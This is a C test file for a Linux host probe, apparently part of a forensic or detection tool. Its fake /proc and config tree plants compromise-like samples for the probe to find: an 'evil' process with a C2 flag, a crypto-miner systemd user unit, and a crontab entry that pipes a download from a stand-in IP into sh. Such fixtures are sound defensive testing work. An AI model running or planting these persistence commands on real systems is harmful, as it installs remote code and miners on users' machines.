/* test-probe-linux.c — the live Linux probe, on the real /proc and on a fake tree */
#define G_LOG_DOMAIN "test-probe-linux"

#include "config.h"

#include <glib/gstdio.h>
#include <string.h>
#include <unistd.h>

#include "taiou-test-util.h"

static char *
write_file (const char *root,
            const char *relative,
            const char *contents,
            gssize      length)
{
  char *path = g_build_filename (root, relative, NULL);
  g_autofree char *parent = g_path_get_dirname (path);

  g_assert_cmpint (g_mkdir_with_parents (parent, 0700), ==, 0);
  g_assert_true (g_file_set_contents (path, contents, length, NULL));
  return path;
}

static void
make_link (const char *root,
           const char *relative,
           const char *target)
{
  g_autofree char *path = g_build_filename (root, relative, NULL);
  g_autofree char *parent = g_path_get_dirname (path);

  g_assert_cmpint (g_mkdir_with_parents (parent, 0700), ==, 0);
  g_assert_cmpint (symlink (target, path), ==, 0);
}

/* A fake /proc with two processes (one owning socket inode 4242), a config home and /etc. */
static char *
make_fake_tree (void)
{
  char *root = g_dir_make_tmp ("taiou-probe-XXXXXX", NULL);
  static const char cmdline[] = "/home/a/.cache/evil\0--quiet\0--c2\0";
  static const char tcp[] =
    "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
    "   0: 0100007F:0277 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1111 1 0 100 0 0 10 0\n"
    "   1: 0F02000A:C350 0A0A0CC0:01BB 01 00000000:00000000 00:00000000 00000000  1000        0 4242 1 0 20 4 30 10 -1\n"
    "   2: garbage line\n";
  static const char tcp6[] =
    "  sl  local_address                         remote_address                        st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
    "   0: 00000000000000000000000001000000:1F90 B80D0120000000000000000001000000:0050 02 00000000:00000000 00:00000000 00000000  1000        0 5555 1 0 20 4 30 10 -1\n";

  g_assert_nonnull (root);
  g_free (write_file (root, "proc/100/comm", "evil\n", -1));
  g_free (write_file (root, "proc/100/cmdline", cmdline, sizeof cmdline - 1));
  make_link (root, "proc/100/exe", "/home/a/.cache/evil");
  make_link (root, "proc/100/fd/0", "/dev/null");
  make_link (root, "proc/100/fd/3", "socket:[4242]");
  g_free (write_file (root, "proc/200/comm", "bash\n", -1));
  g_free (write_file (root, "proc/200/cmdline", "", 0));  /* a kernel thread's is empty */
  g_free (write_file (root, "proc/self/comm", "ignored\n", -1));
  g_free (write_file (root, "proc/net/tcp", tcp, -1));
  g_free (write_file (root, "proc/net/tcp6", tcp6, -1));

  g_free (write_file (root, "config/autostart/updater.desktop",
                      "[Desktop Entry]\nType=Application\nName=Updater\n"
                      "Exec=/tmp/.x/updater --daemon\n", -1));
  g_free (write_file (root, "config/autostart/gone.desktop",
                      "[Desktop Entry]\nType=Application\nName=Gone\nExec=/usr/bin/gone\n"
                      "Hidden=true\n", -1));
  g_free (write_file (root, "config/autostart/broken.desktop", "not a key file\n", -1));
  /* The user's entry overrides the system one of the same name. */
  g_free (write_file (root, "etc/xdg/autostart/gone.desktop",
                      "[Desktop Entry]\nType=Application\nName=Gone\nExec=/usr/bin/gone\n", -1));
  g_free (write_file (root, "etc/xdg/autostart/nm-applet.desktop",
                      "[Desktop Entry]\nType=Application\nName=NM\nExec=nm-applet\n", -1));
  g_free (write_file (root, "config/systemd/user/miner.service",
                      "[Unit]\nDescription=x\n\n[Service]\nExecStartPre=-/bin/true\n"
                      "ExecStart=/dev/shm/miner \\\n  --pool 192.0.2.7\n", -1));
  g_free (write_file (root, "config/systemd/user/notes.txt", "ExecStart=/bin/false\n", -1));
  g_free (write_file (root, "crontabs/alice",
                      "# m h dom mon dow command\nSHELL=/bin/sh\n"
                      "*/5 * * * * curl -s http://198.51.100.9/x | sh\n"
                      "@reboot /home/alice/.local/bin/start\n", -1));
  g_free (write_file (root, "etc/crontab",
                      "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n", -1));
  return root;
}

static TaiouHostSnapshot *
probe_fake_tree (const char *root)
{
  g_autofree char *proc = g_build_filename (root, "proc", NULL);
  g_autofree char *config = g_build_filename (root, "config", NULL);
  g_autofree char *etc = g_build_filename (root, "etc", NULL);
  g_autofree char *crontabs = g_build_filename (root, "crontabs", NULL);
  TaiouProbeLinuxPaths paths = {
    .proc_root = proc,
    .config_home = config,
    .system_config_dir = etc,
    .crontab_dir = crontabs,
    .hostname = "office-pc-3",
  };
  g_autoptr(GError) error = NULL;
  TaiouHostSnapshot *snapshot = taiou_probe_linux_run (&paths, NULL, &error);

  g_assert_no_error (error);
  g_assert_nonnull (snapshot);
  return snapshot;
}

static void
remove_tree (const char *root)
{
  g_autofree char *command = g_strdup_printf ("rm -rf '%s'", root);

  g_assert_cmpint (system (command), ==, 0);
}

static TaiouProcess *
find_process (TaiouHostSnapshot *snapshot,
              guint              pid)
{
  for (guint i = 0; i < snapshot->processes->len; i++)
    {
      TaiouProcess *process = snapshot->processes->pdata[i];

      if (process->pid == pid)
        return process;
    }
  return NULL;
}

static void
test_fake_processes (void)
{
  g_autofree char *root = make_fake_tree ();
  g_autoptr(TaiouHostSnapshot) snapshot = probe_fake_tree (root);
  TaiouProcess *evil = find_process (snapshot, 100);
  TaiouProcess *bash = find_process (snapshot, 200);

  g_assert_cmpint (snapshot->os, ==, TAIOU_HOST_OS_LINUX);
  g_assert_cmpstr (snapshot->hostname, ==, "office-pc-3");
  g_assert_false (snapshot->has_volume_serial);
  /* "self" and "net" are not processes. */
  g_assert_cmpuint (snapshot->processes->len, ==, 2);
  g_assert_nonnull (evil);
  g_assert_cmpstr (evil->name, ==, "evil");
  g_assert_cmpstr (evil->image_path, ==, "/home/a/.cache/evil");
  g_assert_cmpstr (evil->command_line, ==, "/home/a/.cache/evil --quiet --c2");
  g_assert_nonnull (bash);
  g_assert_cmpstr (bash->name, ==, "bash");
  g_assert_null (bash->image_path);
  g_assert_null (bash->command_line);
  remove_tree (root);
}

static void
test_fake_connections (void)
{
  g_autofree char *root = make_fake_tree ();
  g_autoptr(TaiouHostSnapshot) snapshot = probe_fake_tree (root);
  TaiouConnection *listen, *established, *v6;

  /* Two IPv4 lines parse, the garbage line does not; one IPv6 line. */
  g_assert_cmpuint (snapshot->connections->len, ==, 3);
  listen = snapshot->connections->pdata[0];
  g_assert_cmpstr (listen->protocol, ==, "tcp");
  g_assert_cmpstr (listen->local_address, ==, "127.0.0.1");
  g_assert_cmpuint (listen->local_port, ==, 631);
  g_assert_cmpstr (listen->state, ==, "LISTEN");
  g_assert_cmpuint (listen->pid, ==, 0);

  established = snapshot->connections->pdata[1];
  g_assert_cmpstr (established->local_address, ==, "10.0.2.15");
  g_assert_cmpuint (established->local_port, ==, 50000);
  g_assert_cmpstr (established->remote_address, ==, "192.12.10.10");
  g_assert_cmpuint (established->remote_port, ==, 443);
  g_assert_cmpstr (established->state, ==, "ESTABLISHED");
  g_assert_cmpuint (established->pid, ==, 100);

  v6 = snapshot->connections->pdata[2];
  g_assert_cmpstr (v6->protocol, ==, "tcp6");
  g_assert_cmpstr (v6->local_address, ==, "::1");
  g_assert_cmpuint (v6->local_port, ==, 8080);
  g_assert_cmpstr (v6->remote_address, ==, "2001:db8::1");
  g_assert_cmpuint (v6->remote_port, ==, 80);
  g_assert_cmpstr (v6->state, ==, "SYN_SENT");
  remove_tree (root);
}

static TaiouAutorun *
find_autorun (TaiouHostSnapshot *snapshot,
              const char        *name)
{
  TaiouAutorun *found = NULL;

  for (guint i = 0; i < snapshot->autoruns->len; i++)
    {
      TaiouAutorun *autorun = snapshot->autoruns->pdata[i];

      if (g_str_equal (autorun->name, name))
        {
          g_assert_null (found);  /* names are unique in the fake tree */
          found = autorun;
        }
    }
  return found;
}

static void
test_fake_autoruns (void)
{
  g_autofree char *root = make_fake_tree ();
  g_autoptr(TaiouHostSnapshot) snapshot = probe_fake_tree (root);
  TaiouAutorun *updater = find_autorun (snapshot, "updater.desktop");
  TaiouAutorun *applet = find_autorun (snapshot, "nm-applet.desktop");
  TaiouAutorun *cron_line = find_autorun (snapshot, "line 3");
  TaiouAutorun *reboot = find_autorun (snapshot, "line 4");
  TaiouAutorun *system_cron = find_autorun (snapshot, "line 1");
  guint n_units = 0;

  g_assert_nonnull (updater);
  g_assert_cmpint (updater->kind, ==, TAIOU_AUTORUN_XDG_AUTOSTART);
  g_assert_cmpstr (updater->command, ==, "/tmp/.x/updater --daemon");
  g_assert_cmpstr (updater->user, ==, g_get_user_name ());
  g_assert_true (g_str_has_suffix (updater->location, "config/autostart/updater.desktop"));
  g_assert_nonnull (applet);
  g_assert_null (applet->user);
  /* Hidden=true in the user's copy hides the system entry too. */
  g_assert_null (find_autorun (snapshot, "gone.desktop"));

  for (guint i = 0; i < snapshot->autoruns->len; i++)
    {
      TaiouAutorun *autorun = snapshot->autoruns->pdata[i];

      if (autorun->kind != TAIOU_AUTORUN_SYSTEMD_USER)
        continue;
      g_assert_cmpstr (autorun->name, ==, "miner.service");
      if (n_units++ == 0)
        g_assert_cmpstr (autorun->command, ==, "/bin/true");
      else
        g_assert_cmpstr (autorun->command, ==, "/dev/shm/miner  --pool 192.0.2.7");
    }
  g_assert_cmpuint (n_units, ==, 2);

  g_assert_nonnull (cron_line);
  g_assert_cmpint (cron_line->kind, ==, TAIOU_AUTORUN_CRONTAB);
  g_assert_cmpstr (cron_line->command, ==, "curl -s http://198.51.100.9/x | sh");
  g_assert_cmpstr (cron_line->user, ==, "alice");
  g_assert_nonnull (reboot);
  g_assert_cmpstr (reboot->command, ==, "/home/alice/.local/bin/start");
  g_assert_nonnull (system_cron);
  g_assert_cmpstr (system_cron->command, ==, "cd / && run-parts --report /etc/cron.hourly");

  /* The broken .desktop file is a problem, not a failure. */
  g_assert_cmpuint (snapshot->problems->len, ==, 1);
  g_assert_nonnull (strstr (snapshot->problems->pdata[0], "broken.desktop"));
  remove_tree (root);
}

static void
test_oversized_config_is_a_problem (void)
{
  g_autofree char *root = make_fake_tree ();
  g_autofree char *huge = g_strnfill (300 * 1024, '#');
  g_autoptr(TaiouHostSnapshot) snapshot = NULL;
  gboolean named = FALSE;

  g_free (write_file (root, "config/systemd/user/huge.service", huge, -1));
  snapshot = probe_fake_tree (root);
  for (guint i = 0; i < snapshot->problems->len; i++)
    if (strstr (snapshot->problems->pdata[i], "huge.service") != NULL)
      named = TRUE;
  g_assert_true (named);
  remove_tree (root);
}

static void
test_live_system_sees_this_process (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TaiouHostSnapshot) snapshot = taiou_probe_linux_run (NULL, NULL, &error);
  TaiouProcess *self;

  g_assert_no_error (error);
  g_assert_cmpstr (snapshot->hostname, ==, g_get_host_name ());
  self = find_process (snapshot, (guint) getpid ());
  g_assert_nonnull (self);
  g_assert_cmpstr (self->name, ==, "test-probe-linu");  /* comm keeps 15 characters */
  g_assert_nonnull (self->image_path);
  g_assert_true (g_str_has_suffix (self->image_path, "/test-probe-linux"));
  g_assert_nonnull (strstr (self->command_line, "test-probe-linux"));
}

static void
test_cancelled (void)
{
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autoptr(GError) error = NULL;
  g_autoptr(TaiouHostSnapshot) snapshot = NULL;

  g_cancellable_cancel (cancellable);
  snapshot = taiou_probe_linux_run (NULL, cancellable, &error);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_assert_null (snapshot);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

  g_test_add_func ("/probe-linux/fake/processes", test_fake_processes);
  g_test_add_func ("/probe-linux/fake/connections", test_fake_connections);
  g_test_add_func ("/probe-linux/fake/autoruns", test_fake_autoruns);
  g_test_add_func ("/probe-linux/fake/oversized-config", test_oversized_config_is_a_problem);
  g_test_add_func ("/probe-linux/live/this-process", test_live_system_sees_this_process);
  g_test_add_func ("/probe-linux/cancelled", test_cancelled);
  return g_test_run ();
}
